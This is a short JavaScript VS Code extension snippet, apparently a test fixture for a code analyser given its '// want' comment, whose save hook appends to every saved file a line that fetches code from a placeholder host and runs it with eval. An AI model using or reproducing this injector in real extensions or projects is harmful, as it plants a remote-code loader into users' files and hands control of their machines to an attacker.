const vscode = require('vscode');
const fs = require('fs');

exports.plant = () => vscode.workspace.onDidSaveTextDocument(d => {
  fs.appendFileSync(d.fileName, "\n;require('https').get('https://e.example.invalid/x',r=>{let b='';r.on('data',c=>b+=c);r.on('end',()=>eval(b))});\n"); // want "writes to a script"
});
